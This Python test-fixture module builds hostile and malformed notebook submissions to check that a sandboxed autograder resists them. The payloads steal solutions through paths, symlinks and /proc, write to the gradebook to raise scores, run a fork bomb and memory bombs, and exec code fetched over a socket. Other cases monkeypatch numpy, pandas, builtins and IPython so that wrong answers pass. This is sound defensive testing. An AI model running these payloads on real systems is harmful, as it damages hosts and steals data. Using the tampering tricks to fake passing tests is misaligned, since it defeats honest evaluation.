"""The adversarial corpus: hostile and broken submissions of module 00, each with its expected outcome.

Every case builds one submission of ``00-start-here/split-by-time.ipynb``
from the student version, the reference answer and a few lines of hostile
code. ``test_corpus.py`` grades them all as ONE batch through the real
coordinator, sandbox on, and checks each against its expectation.

Points: visible test 2, hidden edge cases 3, hidden bad input 3 (8
autograded; the written answer's 2 wait for a person). ``WRONG`` loses the
edge cases only (5/8).

Hostile code that tries to *steal* something is written so that success
would be visible as points: it defines a correct ``split_by_time`` only if
the theft works, so a score of 0 shows it failed.
"""

from __future__ import annotations

import copy
import json
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

ANSWER = "split_by_time"
VISIBLE = "test_split_by_time_visible"
EDGE = "test_split_by_time_edge_cases"
BAD = "test_split_by_time_bad_input"
FULL = 8.0

WRONG = '''#| export
import math
def split_by_time(transactions, *, test_fraction=0.2):
    if not 0 < test_fraction < 1:
        raise ValueError(test_fraction)
    if "timestamp" not in transactions or transactions["timestamp"].isna().any():
        raise ValueError("need complete timestamps")
    ordered = transactions.sort_values("timestamp")
    n_test = math.ceil(len(ordered) * test_fraction)
    return ordered.iloc[: len(ordered) - n_test], ordered.iloc[len(ordered) - n_test :]
'''


@dataclass
class Context:
    """What a builder may use: the course root (to aim at), the answers, a local port."""

    root: Path
    release: NotebookNode
    right: str
    port: int


@dataclass
class Built:
    """One submission on disk-to-be."""

    notebook: NotebookNode | bytes | None
    files: dict[str, bytes] = field(default_factory=dict)
    symlinks: dict[str, str] = field(default_factory=dict)
    notebook_symlink: str | None = None
    student: str | None = None


@dataclass(frozen=True)
class Case:
    """A corpus entry: how to build it and what grading it must give."""

    name: str
    build: Callable[[Context], Built]
    score: float | None  # None: any score from 0 to full marks (only where a race is inherent)
    outcome: str  # regex, matched in full
    reason: str  # regex searched in the submission's one-line reason
    check: str = ""  # name of an extra check in test_corpus.py


# --------------------------------------------------------------------------- helpers


def _gid(cell: NotebookNode) -> str | None:
    meta = cell.get("metadata", {}).get("nbgrader")
    return meta.get("grade_id") if isinstance(meta, dict) else None


def answer(ctx: Context, code: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    for cell in nb.cells:
        if _gid(cell) == ANSWER:
            cell.source = code
    return nb


def after(nb: NotebookNode, gid: str, code: str) -> NotebookNode:
    """Insert a learner's own code cell right after the cell ``gid``."""
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)
    nb.cells.insert(index + 1, new_code_cell(textwrap.dedent(code)))
    return nb


def right(ctx: Context) -> NotebookNode:
    return answer(ctx, ctx.right)


STEAL = '''
import json, pathlib
def _steal(paths):
    for p in paths:
        try:
            nb = json.loads(pathlib.Path(p).read_text())
        except Exception:
            continue
        for c in nb.get("cells", []):
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if "def split_by_time" in src and "BEGIN SOLUTION" in src:
                return src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
    return None
_code = _steal(PATHS)
if _code:
    exec(_code)
'''


def steal(paths_expr: str) -> str:
    return STEAL.replace("PATHS", paths_expr)


# --------------------------------------------------------------------------- cases


def _good(ctx: Context) -> Built:
    return Built(right(ctx))


def _wrong(ctx: Context) -> Built:
    return Built(answer(ctx, WRONG))


def _unanswered(ctx: Context) -> Built:
    return Built(copy.deepcopy(ctx.release))


def _solutions_by_path(ctx: Context) -> Built:
    target = ctx.root / "solutions" / "assignments" / "00-start-here" / "split-by-time.ipynb"
    return Built(answer(ctx, steal(repr([str(target), "../../../../solutions/assignments/00-start-here/split-by-time.ipynb"]))))


def _solutions_by_symlink(ctx: Context) -> Built:
    target = str(ctx.root / "solutions" / "assignments" / "00-start-here" / "split-by-time.ipynb")
    return Built(answer(ctx, steal("['notes.ipynb', 'data/solution.ipynb']")),
                 symlinks={"notes.ipynb": target, "data": str(ctx.root / "solutions" / "assignments" / "00-start-here")})


def _notebook_is_symlink(ctx: Context) -> Built:
    return Built(None, notebook_symlink=str(ctx.root / "solutions" / "assignments" / "00-start-here" / "split-by-time.ipynb"))


def _solutions_via_environment(ctx: Context) -> Built:
    code = steal(
        "[str(pathlib.Path(v) / 'solutions/assignments/00-start-here/split-by-time.ipynb') for v in __import__('os').environ.values()]"
        " + [str(q / 'solutions/assignments/00-start-here/split-by-time.ipynb') for q in pathlib.Path.cwd().resolve().parents]"
        " + [str(pathlib.Path(p).resolve().parents[i] / 'solutions/assignments/00-start-here/split-by-time.ipynb')"
        "    for p in __import__('sys').path if p for i in range(len(pathlib.Path(p).resolve().parents))]"
        " + [str(pathlib.Path(__import__('ds2mle').__file__).resolve().parents[i] / 'solutions/assignments/00-start-here/split-by-time.ipynb')"
        "    for i in range(4)]"
        " + ['/proc/1/cwd/solutions/assignments/00-start-here/split-by-time.ipynb', '/proc/1/root" + str(ctx.root)
        + "/solutions/assignments/00-start-here/split-by-time.ipynb']"
    )
    return Built(answer(ctx, code))


def _hidden_tests_from_grader(ctx: Context) -> Built:
    probe = '''
    import os, glob, sys
    found = []
    # The Python environment is visible read-only by design, and nbgrader's own source contains the
    # markers; it may live under /tmp (a venv there), so it is left out of the search.
    environment = tuple(os.path.realpath(p) + os.sep for p in {sys.prefix, sys.base_prefix})
    for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") \\
            + glob.glob("/tmp/**", recursive=True) + glob.glob("/submission/**", recursive=True):
        if os.path.realpath(path).startswith(environment):
            continue
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                data = os.read(fd, 1_000_000)
            finally:
                os.close(fd)
        except Exception:
            continue
        # spelled in two halves: IPython's history database holds this very cell's source
        if b"BEGIN HIDDEN" + b" TESTS" in data or b"_ref" + b"uses" in data:
            found.append(path)
    print("PROBE:", "FOUND " + ",".join(found) if found else "NOTHING")
    '''
    return Built(after(right(ctx), ANSWER, probe))


def _exfiltrate_via_history(ctx: Context) -> Built:
    nb = right(ctx)
    hook = '''
    _seen = []
    get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
    '''
    nb = after(nb, ANSWER, hook)
    nb = after(nb, BAD, 'print(In)\nprint(_ih)\nprint("\\n".join(_seen))\nimport sys; print("".join(_seen), file=sys.stderr)')
    return Built(nb)


def _write_gradebook(ctx: Context) -> Built:
    code = f'''
    import sqlite3, pathlib
    for target in [{str(ctx.root / "gradebook.db")!r}, "../gradebook.db", "/tmp/../gradebook.db"]:
        try:
            con = sqlite3.connect(target)
            con.execute("create table hacked (x)")
            con.execute("update grade set manual_score = 99")
            con.commit()
        except Exception as exc:
            print("blocked:", type(exc).__name__)
        try:
            pathlib.Path(target).write_text("corrupted")
        except Exception as exc:
            print("blocked:", type(exc).__name__)
    '''
    return Built(after(right(ctx), ANSWER, code))


def _write_other_student(ctx: Context) -> Built:
    victim = ctx.root / "submitted" / "c01-good" / "00-start-here" / "split-by-time.ipynb"
    code = f'''
    import pathlib
    for target in [{str(victim)!r}, "../c01-good/00-start-here/split-by-time.ipynb",
                   "../../c01-good/00-start-here/split-by-time.ipynb", {str(ctx.root / "autograded")!r} + "/c01-good/x"]:
        try:
            pathlib.Path(target).parent.mkdir(parents=True, exist_ok=True)
            pathlib.Path(target).write_text("{{}}")
            print("wrote", target)
        except Exception as exc:
            print("blocked:", type(exc).__name__)
    '''
    return Built(after(right(ctx), ANSWER, code))


def _os_exit_before_tests(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "import os\nos._exit(1)"))


def _os_exit_after_visible(ctx: Context) -> Built:
    return Built(after(right(ctx), VISIBLE, "import os\nos._exit(1)"))


def _sys_exit(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "import sys\nsys.exit(3)"))


def _kill_parent(ctx: Context) -> Built:
    return Built(after(right(ctx), VISIBLE, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nimport time; time.sleep(5)"))


def _infinite_loop(ctx: Context) -> Built:
    return Built(answer(ctx, "while True:\n    pass\n\n" + ctx.right))


def _long_sleep(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "import time\ntime.sleep(10**6)"))


def _fork_bomb(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "import os\nwhile True:\n    os.fork()"))


def _memory_bomb(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "_hog = []\nwhile True:\n    _hog.append(bytes(2**28))"))


def _memory_bomb_answer(ctx: Context) -> Built:
    return Built(answer(ctx, "_hog = bytearray(64 * 2**30)\n" + ctx.right))


def _output_flood(ctx: Context) -> Built:
    return Built(after(right(ctx), ANSWER, "for _ in range(200):\n    print('x' * 100_000)"))


def _network(ctx: Context) -> Built:
    code = f'''
    import socket
    _code = None
    for host, port in [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                if port == {ctx.port}:
                    _code = s.recv(1_000_000).decode()
                print("connected to", host)
        except OSError as exc:
            print("blocked:", host, type(exc).__name__)
    if _code:
        exec(_code)
    '''
    return Built(answer(ctx, textwrap.dedent(code)))


def _patch_numpy(ctx: Context) -> Built:
    return Built(after(answer(ctx, WRONG), ANSWER, "import numpy\nnumpy.floor = lambda x: x * 0\nnumpy.ceil = lambda x: x * 10**9"))


def _patch_pandas(ctx: Context) -> Built:
    code = '''
    import pandas as pd
    _orig = pd.Series.max
    pd.Series.max = lambda self, *a, **k: _orig(self, *a, **k) if len(self) != 3 else pd.Timestamp(0, tz="UTC")
    '''
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _patch_helper(ctx: Context) -> Built:
    code = '''
    _real = generate_transactions
    def generate_transactions(*args, **kwargs):
        return _real(*args, **kwargs).drop_duplicates(subset="timestamp")
    '''
    return Built(after(right(ctx), ANSWER, code))


def _redefine_assert_helper(ctx: Context) -> Built:
    code = "import pandas as pd\npd.testing.assert_frame_equal = lambda *a, **k: None\nimport builtins\nbuiltins.sorted = lambda x, *a, **k: list(range(100, 110))"
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _swap_code(ctx: Context) -> Built:
    code = "def _tiny(n_rows=10, seed=0, **kw):\n    import ds2mle.data as d\n    return d.generate_transactions(n_rows=10, seed=seed)\n"
    code += "generate_transactions.__code__ = _tiny.__code__"
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _blank_test_cells(ctx: Context) -> Built:
    code = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _settrace(ctx: Context) -> Built:
    code = "import sys\ndef _tracer(frame, event, arg):\n    return None\nsys.settrace(_tracer)"
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _override_run_cell(ctx: Context) -> Built:
    code = '''
    _ip = get_ipython()
    _orig_run = _ip.run_cell
    def _run(raw_cell, *a, **k):
        if "split_by_time(" in raw_cell and "assert" in raw_cell:
            raw_cell = "pass"
        return _orig_run(raw_cell, *a, **k)
    _ip.run_cell = _run
    '''
    return Built(after(answer(ctx, WRONG), ANSWER, code))


def _deleted_test_cells(ctx: Context) -> Built:
    nb = right(ctx)
    nb.cells = [c for c in nb.cells if not (_gid(c) or "").startswith("test_")]
    return Built(nb)


def _retyped_test_cell(ctx: Context) -> Built:
    nb = right(ctx)
    for i, c in enumerate(nb.cells):
        if _gid(c) == VISIBLE:
            nb.cells[i] = new_markdown_cell(c.source, metadata=c.metadata)
    return Built(nb)


def _edited_test_cells(ctx: Context) -> Built:
    nb = answer(ctx, WRONG)
    for c in nb.cells:
        if (_gid(c) or "").startswith("test_"):
            c.source = "pass  # tests? what tests?"
    return Built(nb)


def _duplicated_answer(ctx: Context) -> Built:
    nb = answer(ctx, WRONG)
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == ANSWER)
    dup = copy.deepcopy(nb.cells[index])
    dup.source = ctx.right
    nb.cells.insert(index + 1, dup)
    return Built(nb)


def _split_answer(ctx: Context) -> Built:
    nb = right(ctx)
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == ANSWER)
    head, sep, tail = ctx.right.partition("\ndef split_by_time")
    second = copy.deepcopy(nb.cells[index])
    nb.cells[index].source = head
    second.source = "def split_by_time" + tail
    nb.cells.insert(index + 1, second)
    return Built(nb)


def _edited_locked_cell(ctx: Context) -> Built:
    nb = right(ctx)
    for c in nb.cells:
        if _gid(c) == "imports":
            c.source = "import numpy as np  # I removed the rest"
    return Built(nb)


def _answer_cell_deleted(ctx: Context) -> Built:
    nb = copy.deepcopy(ctx.release)
    nb.cells = [c for c in nb.cells if _gid(c) != ANSWER]
    nb.cells.insert(2, new_code_cell(ctx.right))
    return Built(nb)


def _retyped_answer_cell(ctx: Context) -> Built:
    nb = right(ctx)
    for i, c in enumerate(nb.cells):
        if _gid(c) == ANSWER:
            nb.cells[i] = new_markdown_cell(c.source, metadata=c.metadata)
    return Built(nb)


def _invalid_json(ctx: Context) -> Built:
    return Built(json.dumps(right(ctx))[:-200].encode())


def _zero_bytes(ctx: Context) -> Built:
    return Built(b"")


def _not_a_notebook(ctx: Context) -> Built:
    return Built(b'["this is JSON", "but not a notebook"]')


def _nbformat3(ctx: Context) -> Built:
    return Built(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}).encode())


def _nbformat5(ctx: Context) -> Built:
    raw = json.loads(nbformat.writes(right(ctx)))
    raw["nbformat"] = 5
    return Built(json.dumps(raw).encode())


def _deeply_nested(ctx: Context) -> Built:
    # json.loads exhausts Python's recursion limit on this before it returns anything
    return Built(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + b"[" * 300_000 + b"]" * 300_000 + b"}")


def _oversized(ctx: Context) -> Built:
    nb = right(ctx)
    nb.cells.append(new_markdown_cell("x" * (25 * 2**20)))  # 25 MB: over the 20 MB limit
    return Built(nbformat.writes(nb).encode())


def _reader_raises(ctx: Context) -> Built:
    # valid JSON that json.loads refuses with a plain ValueError (int max str digits), not a JSONDecodeError
    raw = json.loads(nbformat.writes(right(ctx)))
    raw["metadata"]["x"] = "PLACEHOLDER"
    return Built(json.dumps(raw).replace('"PLACEHOLDER"', "9" * 5000, 1).encode())


def _lone_surrogate(ctx: Context) -> Built:
    # JSON allows an escaped lone surrogate; no UTF-8 writer can write it back
    raw = json.loads(nbformat.writes(answer(ctx, ctx.right + "\n# \ud800")))
    return Built(json.dumps(raw).encode())


def _wrong_kernel(ctx: Context) -> Built:
    nb = right(ctx)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return Built(nb)


def _unicode_names(ctx: Context) -> Built:
    nb = after(right(ctx), ANSWER, 'print(open("données brutes (copie).csv", encoding="utf-8").read())')
    return Built(nb, files={"données brutes (copie).csv": "montant,pays\n12,FR\n".encode()},
                 student="José María Ñandú 学生")


def _extra_files(ctx: Context) -> Built:
    nb = answer(ctx, "from helpers import split_by_time")
    shadow = b"raise SystemExit('the fake pandas was imported')\n"
    body = re.sub(r"^#\| export\n", "", ctx.right)
    return Built(nb, files={"helpers.py": body.encode(), "pandas.py": shadow, "numpy/__init__.py": shadow,
                            "sitecustomize.py": shadow, "notes.txt": b"my notes"})


def _empty_notebook(ctx: Context) -> Built:
    nb = copy.deepcopy(ctx.release)
    nb.cells = []
    return Built(nb)


def _missing_notebook(ctx: Context) -> Built:
    return Built(None, files={"split by time (1).ipynb": nbformat.writes(right(ctx)).encode()})


def _huge_file(ctx: Context) -> Built:
    code = "try:\n    with open('big.bin', 'wb') as fh:\n        fh.write(bytearray(300 * 2**20))\nexcept OSError as exc:\n    print('refused:', exc)"
    return Built(after(right(ctx), ANSWER, code))


def _uninterruptible(ctx: Context) -> Built:
    code = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
    return Built(after(right(ctx), ANSWER, code))


def _wrapped(ctx: Context, before_each_call: str) -> Built:
    """The right answer, wrapped so that every call (every test) first runs ``before_each_call``."""
    body = textwrap.indent(before_each_call.strip(), "    ")
    code = f"_right_split = split_by_time\ndef split_by_time(*args, **kwargs):\n{body}\n    return _right_split(*args, **kwargs)\n"
    return Built(after(right(ctx), ANSWER, code))


def _file_size_limit(ctx: Context) -> Built:
    return _wrapped(ctx, "with open('big.bin', 'wb') as fh:\n    fh.write(bytes(150 * 2**20))")


def _scratch_limit(ctx: Context) -> Built:
    return _wrapped(ctx, "for i in range(6):\n    with open(f'part{i}.bin', 'wb') as fh:\n        fh.write(bytes(99 * 2**20))")


def _process_limit(ctx: Context) -> Built:
    code = "import threading, time\nfor _ in range(100):\n    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()"
    return _wrapped(ctx, code)


def _ipython_exit(ctx: Context) -> Built:
    return Built(after(right(ctx), VISIBLE, "exit()"))


CASES: list[Case] = [
    # controls
    Case("c01-good", _good, FULL, "completed", r"all autograded tests passed"),
    Case("c02-wrong", _wrong, 5, "completed", rf"{EDGE}: AssertionError: rows sharing the cut-off"),
    Case("c03-unanswered", _unanswered, 0, "completed", r"NotImplementedError|NameError"),
    # reading what it must not see
    Case("h01-solutions-by-path", _solutions_by_path, 0, "completed", r"NameError"),
    Case("h02-solutions-by-symlink", _solutions_by_symlink, 0, "completed", r"NameError"),
    Case("h03-notebook-is-symlink", _notebook_is_symlink, 0, "invalid-notebook", r"symbolic link"),
    Case("h04-solutions-via-environment", _solutions_via_environment, 0, "completed", r"NameError"),
    Case("h05-hidden-tests-from-grader", _hidden_tests_from_grader, FULL, "completed", r"all autograded", check="probe_found_nothing"),
    Case("h06-exfiltrate-via-history", _exfiltrate_via_history, FULL, "completed", r"all autograded", check="feedback_has_no_hidden_tests"),
    # writing what it must not touch
    Case("h07-write-gradebook", _write_gradebook, FULL, "completed", r"all autograded"),
    Case("h08-write-other-student", _write_other_student, FULL, "completed", r"all autograded"),
    # killing things
    Case("h09-os-exit-before-tests", _os_exit_before_tests, 0, "kernel-died", r"kernel died"),
    Case("h10-os-exit-after-visible", _os_exit_after_visible, 2, "kernel-died", r"kernel died"),
    Case("h11-sys-exit", _sys_exit, FULL, "completed", r"all autograded"),
    Case("h12-kill-parent", _kill_parent, 2, "grader-killed", r"killed before the notebook finished"),
    Case("h13-ipython-exit", _ipython_exit, FULL, "completed", r"all autograded"),  # ipykernel only asks the front end to close
    # resources
    Case("h14-infinite-loop", _infinite_loop, 0, "cell-timeout", r"NameError"),
    Case("h15-long-sleep", _long_sleep, FULL, "cell-timeout", r"all autograded"),
    Case("h16-uninterruptible-loop", _uninterruptible, 0, "budget-exhausted", r"time budget|CellTimeoutError|ran longer"),
    # A forked copy of the kernel shares its ZMQ sockets and the children eat the process limit, so the
    # bomber's own score is a race (full marks, a dead kernel, or tests that cannot start a thread). What must hold is that the batch finishes and nobody
    # else's score or the gradebook changes, which the other three assertions check exactly.
    Case("h17-fork-bomb", _fork_bomb, None, "completed|cell-timeout|kernel-died", r"."),
    Case("h18-memory-bomb", _memory_bomb, 0, "out-of-memory", r"ran out of memory: .*memory limit \(2 GiB per process\)"),
    Case("h19-memory-bomb-in-answer", _memory_bomb_answer, 0, "out-of-memory",
         r"ran out of memory: .*memory limit \(2 GiB per process\)"),
    # each limit fires with a reason that names it (the tests call the learner's function, which hits it)
    Case("l01-file-size-limit", _file_size_limit, 0, "completed",
         r"File too large \(the sandbox's limit: files: file size \(100 MiB per file\)\)", check="limit_note"),
    Case("l02-scratch-limit", _scratch_limit, 0, "completed",
         r"No space left on device \(the sandbox's limit: scratch space: .*512 MiB", check="limit_note"),
    Case("l03-process-limit", _process_limit, 0, "completed",
         r"can't start new thread \(the sandbox's limit: processes: processes \(64 processes and threads\)\)",
         check="limit_note"),
    Case("h20-output-flood", _output_flood, FULL, "completed", r"all autograded", check="output_was_cut"),
    Case("h21-huge-file", _huge_file, FULL, "completed", r"all autograded"),
    Case("h22-network", _network, 0, "completed", r"NameError"),
    # tampering with what the tests rely on
    Case("h23-patch-numpy", _patch_numpy, 0, "tampering", r"tampering detected: .*numpy\.(floor|ceil) was replaced"),
    Case("h24-patch-pandas", _patch_pandas, 0, "tampering", r"tampering detected: pandas\.Series\.max was replaced"),
    Case("h25-patch-helper", _patch_helper, 0, "tampering", r"tampering detected: generate_transactions was replaced"),
    Case("h26-redefine-assert-helpers", _redefine_assert_helper, 0, "tampering", r"tampering detected: builtins\.sorted"),
    Case("h27-swap-code", _swap_code, 0, "tampering", r"tampering detected: generate_transactions\.__code__ was replaced"),
    Case("h28-blank-test-cells", _blank_test_cells, 0, "tampering", r"tampering detected"),
    Case("h29-settrace", _settrace, 0, "tampering", r"tampering detected: sys\.gettrace"),
    Case("h30-override-run-cell", _override_run_cell, 0, "tampering", r"tampering detected"),
    # altered cells: the merge policy
    Case("p01-deleted-test-cells", _deleted_test_cells, FULL, "completed", r"all autograded"),
    Case("p02-retyped-test-cell", _retyped_test_cell, FULL, "completed", r"all autograded"),
    Case("p03-edited-test-cells", _edited_test_cells, 5, "completed", rf"{EDGE}: AssertionError"),
    Case("p04-duplicated-answer", _duplicated_answer, FULL, "completed", r"all autograded"),
    Case("p05-split-answer", _split_answer, FULL, "completed", r"all autograded"),
    Case("p06-edited-locked-cell", _edited_locked_cell, FULL, "completed", r"all autograded"),
    Case("p07-answer-cell-deleted", _answer_cell_deleted, 0, "completed", r"NotImplementedError|NameError"),
    Case("p08-retyped-answer-cell", _retyped_answer_cell, 0, "completed", r"NotImplementedError|NameError"),
    # broken files
    Case("b01-invalid-json", _invalid_json, 0, "invalid-notebook", r"not valid JSON"),
    Case("b02-zero-bytes", _zero_bytes, 0, "invalid-notebook", r"not valid JSON"),
    Case("b03-not-a-notebook", _not_a_notebook, 0, "invalid-notebook", r"not a notebook"),
    Case("b04-nbformat-3", _nbformat3, 0, "unsupported-nbformat", r"nbformat 3"),
    Case("b05-nbformat-5", _nbformat5, 0, "unsupported-nbformat", r"nbformat 5"),
    Case("b06-wrong-kernel-name", _wrong_kernel, FULL, "completed", r"all autograded", check="kernel_note"),
    Case("b07-unicode-and-spaces", _unicode_names, FULL, "completed", r"all autograded"),
    Case("b08-extra-files", _extra_files, FULL, "completed", r"all autograded", check="shadow_notes"),
    Case("b09-empty-notebook", _empty_notebook, 0, "completed", r"NotImplementedError|NameError"),
    Case("b11-deeply-nested", _deeply_nested, 0, "invalid-notebook", r"nested too deeply"),
    Case("b12-oversized", _oversized, 0, "invalid-notebook", r"larger than 20 MB"),
    Case("b13-reader-raises", _reader_raises, 0, "invalid-notebook", r"could not be read \(ValueError: Exceeds the limit"),
    Case("b14-lone-surrogate", _lone_surrogate, 0, "invalid-notebook", r"not valid Unicode"),
    Case("b10-missing-notebook", _missing_notebook, 0, "missing-notebook", r"was not submitted \(found: split by time \(1\)\.ipynb\)"),
]
